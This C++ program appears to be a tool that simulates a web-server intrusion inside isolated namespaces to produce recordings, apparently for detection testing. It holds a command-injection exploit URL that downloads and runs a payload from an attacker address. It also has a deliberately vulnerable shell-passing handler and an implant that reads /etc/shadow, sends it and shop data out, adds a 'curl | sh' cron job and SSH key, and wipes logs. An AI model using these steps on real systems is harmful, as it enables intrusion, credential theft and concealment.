// Simulates an intrusion, for recordings. A request makes a web server start a shell, which
// downloads a program and runs it. The program reads secrets, makes itself persistent, sends data
// to another host and removes its traces.
//
// The simulation touches nothing outside. It runs in its own namespaces with a root directory in
// memory; the shop, its client and the attacker's host are addresses of one loopback interface.
// Everything disappears when the program ends. Every simulated program (nginx, sh, curl, ...) is
// this one under another name. Linux, needs root. Usage: sfkit_incident
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <iterator>
#include <string>
#include <string_view>
#include <vector>

namespace {

constexpr const char* kShop = "10.0.0.7";
constexpr const char* kClient = "10.0.0.40";
constexpr const char* kAttacker = "203.0.113.66";
constexpr uint16_t kShopPort = 8080;
constexpr uint16_t kDownloadPort = 80;
constexpr uint16_t kCommandPort = 443;
constexpr uid_t kNobody = 65534;

constexpr const char* kInit = "/sbin/shop-init";
constexpr const char* kAccessLog = "/var/log/nginx/access.log";
constexpr const char* kImplant = "/tmp/.u";
constexpr const char* kArchive = "/tmp/.d";

// The attacker's request, which the shop passes to a shell.
constexpr const char* kExploit =
    "/track?id=7;curl+-so+/tmp/.u+http://203.0.113.66/u+%26%26+chmod+%2Bx+/tmp/.u+%26%26+/tmp/.u";

// Roles only run with these names set, inside the namespaces that this program created.
constexpr std::string_view kHost = "shop-host";
constexpr std::string_view kDomain = "stage.sfkit_incident";

// Named like a control group of Docker, so that the recording has a container.
constexpr const char* kContainer =
    "7d1c0a9be4427d1c0a9be4427d1c0a9be4427d1c0a9be4427d1c0a9be4427d1c";

// Time limit of the simulation.
constexpr unsigned kMaxSeconds = 60;

[[noreturn]] void fail(const std::string& what) {
  std::fprintf(stderr, "sfkit_incident: %s: %s\n", what.c_str(), std::strerror(errno));
  ::_exit(99);
}

int check(long result, const std::string& what) {
  if (result < 0) fail(what);
  return static_cast<int>(result);
}

// --- Helpers of the roles.

void write_all(int fd, std::string_view bytes) {
  while (!bytes.empty())
    bytes.remove_prefix(
        static_cast<size_t>(check(::write(fd, bytes.data(), bytes.size()), "write")));
}

std::string read_file(const char* path) {
  const int fd = check(::open(path, O_RDONLY | O_CLOEXEC), path);
  std::string bytes;
  std::vector<char> piece(1 << 18);
  while (const int size = check(::read(fd, piece.data(), piece.size()), path)) {
    bytes.append(piece.data(), static_cast<size_t>(size));
  }
  ::close(fd);
  return bytes;
}

void write_file(const char* path, std::string_view bytes, mode_t mode = 0644, int flags = O_TRUNC) {
  const int fd = check(::open(path, O_WRONLY | O_CREAT | O_CLOEXEC | flags, mode), path);
  write_all(fd, bytes);
  ::close(fd);
}

[[noreturn]] void exec_program(const std::vector<std::string>& command) {
  std::vector<char*> args;
  for (const std::string& arg : command) args.push_back(const_cast<char*>(arg.c_str()));
  args.push_back(nullptr);
  ::execvp(args[0], args.data());
  fail(command[0]);
}

// Runs a program and returns its exit code.
int run(const std::vector<std::string>& command) {
  const pid_t child = check(::fork(), "fork");
  if (child == 0) exec_program(command);
  int status = 0;
  check(::waitpid(child, &status, 0), "waitpid");
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128;
}

sockaddr_in address_of(const char* host, uint16_t port) {
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(port);
  check(::inet_pton(AF_INET, host, &address.sin_addr) - 1, "inet_pton");
  return address;
}

int listener_at(const char* host, uint16_t port) {
  const int fd = check(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), "socket");
  const int yes = 1;
  check(::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof(yes)), "setsockopt");
  const sockaddr_in address = address_of(host, port);
  check(::bind(fd, reinterpret_cast<const sockaddr*>(&address), sizeof(address)), "bind");
  check(::listen(fd, 16), "listen");
  return fd;
}

// Connects from one simulated address to another.
int connection_to(const char* from, const char* host, uint16_t port) {
  const sockaddr_in here = address_of(from, 0);
  const sockaddr_in there = address_of(host, port);
  for (;;) {
    const int fd = check(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), "socket");
    check(::bind(fd, reinterpret_cast<const sockaddr*>(&here), sizeof(here)), "bind");
    if (::connect(fd, reinterpret_cast<const sockaddr*>(&there), sizeof(there)) == 0) return fd;
    if (errno != ECONNREFUSED) fail("connect");
    ::close(fd);
    ::usleep(10'000);
  }
}

void send_all(int fd, std::string_view bytes) {
  while (!bytes.empty()) {
    bytes.remove_prefix(
        static_cast<size_t>(check(::send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL), "send")));
  }
}

std::string receive_to_end(int fd) {
  std::string bytes;
  std::vector<char> piece(1 << 18);
  while (const int size = check(::recv(fd, piece.data(), piece.size(), MSG_WAITALL), "recv")) {
    bytes.append(piece.data(), static_cast<size_t>(size));
  }
  return bytes;
}

// --- Roles: one for each simulated program.

// Decodes the target of a request.
std::string decoded(std::string_view text) {
  std::string result;
  for (size_t at = 0; at < text.size(); ++at) {
    if (text[at] == '%' && at + 2 < text.size()) {
      result += static_cast<char>(std::stoi(std::string(text.substr(at + 1, 2)), nullptr, 16));
      at += 2;
    } else {
      result += text[at] == '+' ? ' ' : text[at];
    }
  }
  return result;
}

// Answers one request. Its vulnerability: a shell runs what follows a semicolon.
void answer(int client, int log) {
  char request[4096];
  const int size = check(::recv(client, request, sizeof(request), 0), "recv");
  std::string_view target(request, static_cast<size_t>(size));
  target.remove_prefix(std::min(target.size(), std::strlen("GET ")));
  target = target.substr(0, target.find(' '));
  std::string status = "200 OK", body;
  if (const size_t command = target.find(';'); command != std::string_view::npos) {
    if (run({"/bin/sh", "-c", decoded(target.substr(command + 1))}) != 0)
      status = "500 Internal Server Error";
  } else {
    body = read_file("/srv/shop/index.html");
  }
  send_all(client, "HTTP/1.0 " + status + "\r\nContent-Type: text/html\r\n\r\n" + body);
  write_all(log, std::string(kClient) + " \"GET " + std::string(target) + "\" " +
                     status.substr(0, 3) + "\n");
}

// Becomes nobody. Its mistake: it and its children keep the capability to change users.
void drop_rights() {
  check(::prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0), "PR_SET_KEEPCAPS");
  check(::syscall(SYS_setgroups, 0, nullptr), "setgroups");
  check(::setgid(kNobody), "setgid");
  check(::setuid(kNobody), "setuid");
  __user_cap_header_struct header{_LINUX_CAPABILITY_VERSION_3, 0};
  __user_cap_data_struct rights[2]{};
  rights[0].effective = rights[0].permitted = rights[0].inheritable = 1u << CAP_SETUID;
  check(::syscall(SYS_capset, &header, rights), "capset");
  check(::prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SETUID, 0, 0), "PR_CAP_AMBIENT");
}

int web_server() {
  read_file("/etc/nginx/nginx.conf");
  const int log =
      check(::open(kAccessLog, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644), kAccessLog);
  const int listener = listener_at(kShop, kShopPort);
  const pid_t worker = check(::fork(), "fork");
  if (worker != 0) return check(::waitpid(worker, nullptr, 0), "waitpid");
  drop_rights();
  for (;;) {
    const int client = check(::accept4(listener, nullptr, nullptr, SOCK_CLOEXEC), "accept4");
    answer(client, log);
    ::close(client);
  }
}

// Runs commands joined by &&. A single command replaces the shell, as in real shells.
int shell(const char* text) {
  std::vector<std::vector<std::string>> commands(1);
  std::string_view rest(text);
  while (!rest.empty()) {
    const std::string_view word = rest.substr(0, rest.find(' '));
    rest.remove_prefix(std::min(rest.size(), word.size() + 1));
    if (word == "&&") {
      commands.emplace_back();
    } else {
      commands.back().emplace_back(word);
    }
  }
  if (commands.size() == 1) exec_program(commands[0]);
  for (const auto& command : commands) {
    if (const int code = run(command); code != 0) return code;
  }
  return 0;
}

// curl -so FILE http://HOST/PATH
int download(const char* file, const char* address) {
  std::string_view host(address);
  host.remove_prefix(std::strlen("http://"));
  const std::string path(host.substr(host.find('/')));
  host = host.substr(0, host.find('/'));
  const int server = connection_to(kShop, std::string(host).c_str(), kDownloadPort);
  send_all(server, "GET " + path + " HTTP/1.0\r\nHost: " + std::string(host) +
                       "\r\nUser-Agent: curl/8\r\n\r\n");
  const std::string reply = receive_to_end(server);
  const size_t body = reply.find("\r\n\r\n");
  if (body == std::string::npos) return 1;
  write_file(file, std::string_view(reply).substr(body + 4));
  return 0;
}

// tar -cf FILE DIRECTORY; regular files only.
int archive(const char* file, const std::string& directory) {
  const int out = check(::open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600), file);
  DIR* entries = ::opendir(directory.c_str());
  if (entries == nullptr) fail(directory);
  while (const dirent* entry = ::readdir(entries)) {
    if (entry->d_type != DT_REG) continue;
    std::string member = directory + "/" + entry->d_name;
    const std::string bytes = read_file(member.c_str());
    member.resize(512);
    write_all(out, member);
    write_all(out, bytes);
  }
  ::closedir(entries);
  return 0;
}

// Simulates the nightly job that reads the password file.
int backup() {
  write_file("/var/backups/shadow.bak", read_file("/etc/shadow"), 0600);
  return 0;
}

int cron() {
  read_file("/etc/cron.d/backup");
  return run({"/bin/sh", "-c", "/usr/local/sbin/backup --nightly"});
}

// Sends one message to the attacker's host, in several writes.
void call_home(std::string_view message) {
  const int server = connection_to(kShop, kAttacker, kCommandPort);
  for (; !message.empty(); message.remove_prefix(std::min<size_t>(message.size(), 16384))) {
    send_all(server, message.substr(0, 16384));
  }
  ::close(server);
}

int implant() {
  read_file("/etc/passwd");
  if (::open("/etc/shadow", O_RDONLY) >= 0) return 1;  // still unprivileged
  check(::setuid(0), "setuid");
  call_home(read_file("/etc/shadow"));

  write_file("/etc/cron.d/updates", "* * * * * root curl -s http://203.0.113.66/u | sh\n");
  write_file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI attacker\n", 0600,
             O_APPEND);

  if (const int code = run({"tar", "-cf", kArchive, "/srv/shop"}); code != 0) return code;
  call_home(read_file(kArchive));

  check(::unlink(kArchive), kArchive);
  write_file(kAccessLog, "");
  check(::unlink("/root/.bash_history"), "/root/.bash_history");
  check(::unlink(kImplant), kImplant);
  for (int time = 0; time < 3; ++time) {
    ::usleep(100'000);
    call_home(std::string(48, '.'));
  }
  return 0;
}

// The shop's first process. It runs the roles one after the other, so that recordings have the same
// order.
int init() {
  check(::chdir("/"), "chdir");
  if (const int code = run({"/usr/sbin/cron"}); code != 0) return code;
  return run({"/usr/sbin/nginx", "-g", "daemon off;"});
}

int run_role(std::string_view name, const std::vector<const char*>& args) {
  if (name == "shop-init") return init();
  if (name == "cron") return cron();
  if (name == "backup") return backup();
  if (name == "nginx") return web_server();
  if (name == "sh" && args.size() == 2) return shell(args[1]);
  if (name == "curl" && args.size() == 3) return download(args[1], args[2]);
  if (name == "chmod" && args.size() == 2) return check(::chmod(args[1], 0755), args[1]);
  if (name == "tar" && args.size() == 3) return archive(args[1], args[2]);
  if (name == ".u") return implant();
  return 2;
}

// --- The environment, and the hosts outside the shop.

// The attacker's host: serves the program and receives data.
[[noreturn]] void attacker(const std::string& program) {
  pollfd listeners[] = {{listener_at(kAttacker, kDownloadPort), POLLIN, 0},
                        {listener_at(kAttacker, kCommandPort), POLLIN, 0}};
  for (;;) {
    check(::poll(listeners, 2, -1), "poll");
    for (const pollfd& listener : listeners) {
      if (listener.revents == 0) continue;
      const int client = check(::accept(listener.fd, nullptr, nullptr), "accept");
      if (&listener == listeners) {
        char request[1024];
        check(::recv(client, request, sizeof(request), 0), "recv");
        send_all(client, "HTTP/1.0 200 OK\r\n\r\n" + program);
      } else {
        receive_to_end(client);
      }
      ::close(client);
    }
  }
}

// Requests pages from the shop, one of them with the exploit. Exit code 0 if all were answered.
[[noreturn]] void client() {
  for (const char* target : {"/", "/", "/", kExploit, "/"}) {
    const int server = connection_to(kClient, kShop, kShopPort);
    send_all(server, std::string("GET ") + target + " HTTP/1.0\r\n\r\n");
    if (!receive_to_end(server).starts_with("HTTP/1.0 200")) ::_exit(1);
    ::close(server);
  }
  ::_exit(0);
}

void add_addresses() {
  const int fd = check(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), "socket");
  const char* const addresses[] = {"127.0.0.1", kShop, kClient, kAttacker};
  for (size_t nth = 0; nth < std::size(addresses); ++nth) {
    ifreq request{};
    std::snprintf(request.ifr_name, sizeof(request.ifr_name), nth == 0 ? "lo" : "lo:%zu", nth);
    reinterpret_cast<sockaddr_in&>(request.ifr_addr) = address_of(addresses[nth], 0);
    check(::ioctl(fd, SIOCSIFADDR, &request), "SIOCSIFADDR");
    request.ifr_flags = IFF_UP | IFF_LOOPBACK | IFF_RUNNING;
    check(::ioctl(fd, SIOCSIFFLAGS, &request), "SIOCSIFFLAGS");
  }
  ::close(fd);
}

// Creates a file and its parent directories.
void place(const std::string& path, std::string_view bytes, mode_t mode = 0644) {
  for (size_t end = path.find('/', 1); end != std::string::npos; end = path.find('/', end + 1)) {
    if (::mkdir(path.substr(0, end).c_str(), 0755) != 0 && errno != EEXIST) fail(path);
  }
  write_file(path.c_str(), bytes, mode);
}

// Creates a root directory in memory. /dev/null is the only file from the machine.
void enter_root(const std::string& program) {
  check(::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr), "mount /");
  ::umask(022);
  check(::mount("tmpfs", "/tmp", "tmpfs", 0, "mode=755"), "mount tmpfs");
  place("/tmp/dev/null", "");
  check(::mount("/dev/null", "/tmp/dev/null", nullptr, MS_BIND, nullptr), "mount /dev/null");
  check(::chdir("/tmp"), "chdir");
  // The old root is mounted over the new one; detach it.
  check(::syscall(SYS_pivot_root, ".", "."), "pivot_root");
  check(::umount2(".", MNT_DETACH), "umount");
  check(::chdir("/"), "chdir");

  place(kInit, program, 0755);
  for (const std::string path : {"/bin/sh", "/usr/bin/curl", "/usr/bin/chmod", "/usr/bin/tar",
                                 "/usr/sbin/cron", "/usr/sbin/nginx", "/usr/local/sbin/backup"}) {
    place(path, "");
    check(::unlink(path.c_str()), path);
    check(::link(kInit, path.c_str()), path);
  }
  place("/etc/passwd",
        "root:x:0:0::/root:/bin/sh\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n");
  place("/etc/shadow", "root:*:20000:0:99999:7:::\nnobody:*:20000:0:99999:7:::\n", 0640);
  place("/etc/nginx/nginx.conf", "listen 8080;\n");
  place("/etc/cron.d/backup", "0 3 * * * root /usr/local/sbin/backup --nightly\n");
  place("/srv/shop/index.html", "<h1>Shop</h1>\n");
  place("/srv/shop/orders.csv", std::string(40'000, '7'));
  place("/var/backups/README", "Made each night.\n");
  place("/root/.bash_history", "ls\n", 0600);
  place("/root/.ssh/known_hosts", "");
  place("/var/log/nginx/error.log", "");
  check(::mkdir("/tmp", 0755), "/tmp");
  check(::chmod("/tmp", 01777), "/tmp");
}

void leave_machine(const std::string& program) {
  check(::unshare(CLONE_NEWNS | CLONE_NEWUTS | CLONE_NEWIPC | CLONE_NEWNET), "unshare");
  check(::sethostname(kHost.data(), kHost.size()), "sethostname");
  check(::setdomainname(kDomain.data(), kDomain.size()), "setdomainname");
  add_addresses();
  enter_root(program);
  // Use one CPU, so that events have the same order each time.
  cpu_set_t allowed, one;
  check(::sched_getaffinity(0, sizeof(allowed), &allowed), "sched_getaffinity");
  CPU_ZERO(&one);
  int cpu = 0;
  while (!CPU_ISSET(cpu, &allowed)) ++cpu;
  CPU_SET(cpu, &one);
  check(::sched_setaffinity(0, sizeof(one), &one), "sched_setaffinity");
}

// Starts a child that ends with this process.
template <typename Work>
pid_t start(const Work& work) {
  const pid_t child = check(::fork(), "fork");
  if (child != 0) return child;
  check(::prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0), "PR_SET_PDEATHSIG");
  work();
  ::_exit(0);
}

[[noreturn]] void become_init() {
  check(::setsid(), "setsid");
  const int null = check(::open("/dev/null", O_RDWR), "/dev/null");
  check(::dup2(null, STDIN_FILENO), "dup2");
  check(::dup2(null, STDOUT_FILENO), "dup2");
  ::syscall(SYS_close_range, 3u, ~0u, 0u);
  const rlimit files{1024, 1024};
  check(::setrlimit(RLIMIT_NOFILE, &files), "setrlimit");
  char* const args[] = {const_cast<char*>(kInit), nullptr};
  char path[] = "PATH=/usr/bin:/bin", language[] = "LANG=C.UTF-8";
  char* const environment[] = {path, language, nullptr};
  ::execve(kInit, args, environment);
  fail(kInit);
}

// Runs the simulation and returns the exit code of the client.
[[noreturn]] void simulate(const std::string& program) {
  ::alarm(kMaxSeconds);
  leave_machine(program);
  start([&program] { attacker(program); });
  const pid_t visitor = start([] { client(); });
  check(::unshare(CLONE_NEWPID), "unshare");
  const pid_t shop = start([] { become_init(); });
  int status = 0;
  check(::waitpid(visitor, &status, 0), "waitpid");
  // All processes of a namespace end with its first process.
  check(::kill(shop, SIGKILL), "kill");
  check(::waitpid(shop, nullptr, 0), "waitpid");
  ::_exit(WIFEXITED(status) ? WEXITSTATUS(status) : 1);
}

// Directories of control groups: one, or one for each controller.
std::vector<std::string> control_groups() {
  const std::string top = "/sys/fs/cgroup";
  if (::access((top + "/cgroup.procs").c_str(), F_OK) == 0) return {top};
  std::vector<std::string> found;
  DIR* entries = ::opendir(top.c_str());
  if (entries == nullptr) return found;
  while (const dirent* entry = ::readdir(entries)) {
    const std::string path = top + "/" + entry->d_name;
    if (entry->d_type == DT_DIR && ::access((path + "/cgroup.procs").c_str(), F_OK) == 0 &&
        path.back() != '.') {
      found.push_back(path);
    }
  }
  ::closedir(entries);
  return found;
}

// Best effort: moves the simulation into a container's control group if the machine permits it.
void enter_group(const std::string& top) {
  const std::string docker = top + "/docker", container = docker + "/" + kContainer;
  ::mkdir(docker.c_str(), 0755);
  ::mkdir(container.c_str(), 0755);
  const int fd = ::open((container + "/cgroup.procs").c_str(), O_WRONLY | O_CLOEXEC);
  if (fd < 0) return;
  static_cast<void>(!::write(fd, "0", 1));
  ::close(fd);
}

void remove_group(const std::string& top) {
  ::rmdir((top + "/docker/" + kContainer).c_str());
  ::rmdir((top + "/docker").c_str());  // fails while it is in use
}

int supervise() {
  const std::string program = read_file("/proc/self/exe");
  // A signal must not leave control groups in place.
  sigset_t interrupts;
  ::sigemptyset(&interrupts);
  for (const int signal : {SIGINT, SIGTERM, SIGHUP}) ::sigaddset(&interrupts, signal);
  check(::sigprocmask(SIG_BLOCK, &interrupts, nullptr), "sigprocmask");
  check(::prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0), "PR_SET_CHILD_SUBREAPER");
  const std::vector<std::string> groups = control_groups();
  const pid_t child = start([&] {
    for (const std::string& top : groups) enter_group(top);
    simulate(program);
  });
  int status = 0;
  check(::waitpid(child, &status, 0), "waitpid");
  // Reap the killed processes of the simulation, which are now children of this process.
  while (::waitpid(-1, nullptr, 0) > 0) {
  }
  for (const std::string& top : groups) remove_group(top);
  if (WIFEXITED(status)) return WEXITSTATUS(status);
  std::fprintf(stderr, "sfkit_incident: the simulation did not end in %u seconds\n", kMaxSeconds);
  return 1;
}

bool is_inside_simulation() {
  utsname names{};
  check(::uname(&names), "uname");
  return names.nodename == kHost && names.domainname == kDomain;
}

}  // namespace

int main(int argc, char** argv) {
  if (!is_inside_simulation()) return supervise();
  const std::string_view path(argc > 0 ? argv[0] : "");
  return run_role(path.substr(path.rfind('/') + 1), {argv + 1, argv + argc});
}
